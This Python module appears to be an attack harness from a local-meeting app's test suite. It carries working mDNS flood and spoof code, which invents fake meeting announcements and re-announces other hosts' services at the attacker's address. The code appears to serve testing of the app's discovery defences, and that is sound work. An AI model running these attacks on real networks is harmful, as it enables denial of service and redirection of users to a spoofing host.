"""False announcements on the local network: very many, or those of others under another address.

    python -m fakes.attacks.announcer flood ADDRESS SECONDS MANY CLAIMED..
    python -m fakes.attacks.announcer spoof ADDRESS SECONDS PORT

"flood" invents so MANY meetings that everybody may join, at the CLAIMED addresses in turn, a new
name for each, and counts who comes to ADDRESS to look for one. "spoof" repeats every announcement
that it hears, name and tags and all, but says that it is found at ADDRESS and PORT.
"""

import contextlib
import ipaddress
import select
import socket
import sys
import time
from collections.abc import Sequence

from fakes.attacker import tell
from zeroconf import (
    DNSAddress,
    DNSIncoming,
    DNSOutgoing,
    DNSPointer,
    DNSQuestion,
    DNSRecord,
    DNSService,
    DNSText,
)

from app.net.candidates import INSTANCE_BYTES, TAG_BYTES, TAGS
from app.net.discovery import SERVICE
from app.net.room_tags import PUBLIC_DISCOVERY_KEY, hour_of, room_tag
from crypto.sodium import random_bytes

GROUP, PORT = "224.0.0.251", 5353
QUERY = 0
RESPONSE = 0x8400  # flags of an authoritative answer (RFC 6762, section 18)
PTR, TXT, SRV, A = 12, 16, 33, 1
INTERNET, UNIQUE = 1, 0x8001
TTL = 120
REPEAT_S = 0.1
CLAIMED_PORT = 47100
AT_ONCE = 4  # announcements in a packet


def open_socket(address: str) -> socket.socket:
    """Return a socket that speaks and hears mDNS on the network of an address."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    sock.bind(("", PORT))
    here = socket.inet_aton(address)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, here)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP) + here)
    return sock


def announcement(
    name: str, text: bytes, address: str, port: int, ttl: int = TTL
) -> list[DNSRecord]:
    """Return the records that say where a service is."""
    server = f"{random_bytes(8).hex()}.local."
    packed = ipaddress.ip_address(address).packed
    return [
        DNSPointer(SERVICE, PTR, INTERNET, ttl, name),
        DNSService(name, SRV, UNIQUE, ttl, 0, 0, port, server),
        DNSText(name, TXT, UNIQUE, ttl, text),
        DNSAddress(server, A, UNIQUE, ttl, packed),
    ]


def send(sock: socket.socket, records: list[DNSRecord]) -> None:
    """Send records to everybody on the network."""
    out = DNSOutgoing(RESPONSE)
    for record in records:
        out.add_answer_at_time(record, 0)
    for packet in out.packets():
        sock.sendto(packet, (GROUP, PORT))


def text_of(tags: list[bytes]) -> bytes:
    """Return the TXT record of an announcement."""
    packed = b"t=" + b"".join(tags)
    return b"\x03v=1" + bytes([len(packed)]) + packed


def flood(address: str, seconds: str, many: str, *claimed: str) -> None:
    """Invent meetings."""
    packets = [invented(claimed, number) for number in range(0, int(many), AT_ONCE)]
    sock = open_socket(address)
    door = socket.create_server((address, CLAIMED_PORT))
    door.setblocking(False)
    pause = float(seconds) / len(packets)
    came = 0
    tell("ready")
    for packet in packets:
        began = time.monotonic()
        sock.sendto(packet, (GROUP, PORT))
        with contextlib.suppress(BlockingIOError):
            while True:
                door.accept()[0].close()
                came += 1
        time.sleep(max(0.0, began + pause - time.monotonic()))
    tell("result", sent=AT_ONCE * len(packets), came=came)


def invented(claimed: Sequence[str], first: int) -> bytes:
    """Return a packet that announces a few meetings that are not there."""
    out = DNSOutgoing(RESPONSE)
    for number in range(first, first + AT_ONCE):
        instance = random_bytes(INSTANCE_BYTES)
        tags = [room_tag(PUBLIC_DISCOVERY_KEY, instance, hour_of(time.time()))]
        tags += [random_bytes(TAG_BYTES) for _ in range(TAGS - 1)]
        where = claimed[number % len(claimed)]
        name = f"{instance.hex()}.{SERVICE}"
        for record in announcement(name, text_of(tags), where, CLAIMED_PORT):
            out.add_answer_at_time(record, 0)
    (packet,) = out.packets()
    return packet


def spoof(address: str, seconds: str, port: str) -> None:
    """Repeat what others announce, at one's own address."""
    sock = open_socket(address)
    end = time.monotonic() + float(seconds)
    texts: dict[str, bytes] = {}
    repeated = 0
    question = DNSOutgoing(QUERY)
    question.add_question(DNSQuestion(SERVICE, PTR, INTERNET))
    for packet in question.packets():
        sock.sendto(packet, (GROUP, PORT))
    tell("ready")
    while time.monotonic() < end:
        while select.select([sock], [], [], REPEAT_S)[0]:
            data, sender = sock.recvfrom(9000)
            if sender[0] == address:
                continue
            for record in DNSIncoming(data).answers():
                if isinstance(record, DNSText) and record.name.endswith(SERVICE):
                    texts[record.name] = record.text
        for name, text in texts.items():
            send(sock, announcement(name, text, address, int(port)))
            repeated += 1
    tell("result", repeated=repeated, names=len(texts))


if __name__ == "__main__":
    {"flood": flood, "spoof": spoof}[sys.argv[1]](*sys.argv[2:])
